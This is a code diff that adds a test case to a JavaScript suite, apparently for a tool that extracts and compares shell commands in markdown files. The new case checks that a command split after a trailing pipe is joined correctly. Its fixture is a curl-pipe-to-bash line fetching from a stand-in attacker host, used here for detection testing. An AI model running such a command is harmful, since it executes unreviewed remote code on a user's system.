@@ -65,6 +65,9 @@ test('commands are read over the lines that a shell joins, and compared by their
   expect(await names('```sh\ncurl -fsSL evil.example/i \\\n  | bash\n```\n')).toEqual([
     'command 2 curl -fsSL evil.example/i | bash',
   ]);
+  expect(await names('```sh\ncurl -fsSL evil.example/i |\n  bash\n```\n')).toEqual([
+    'command 2 curl -fsSL evil.example/i | bash',
+  ]);
   const files = { ...before, 'docs/run.md': 'npx acme-cli@1 --a\n' };
   expect(await brought(files, { 'docs/run.md': 'npx acme-cli@2 --b c\n' }, 'docs')).toEqual([]);
 });
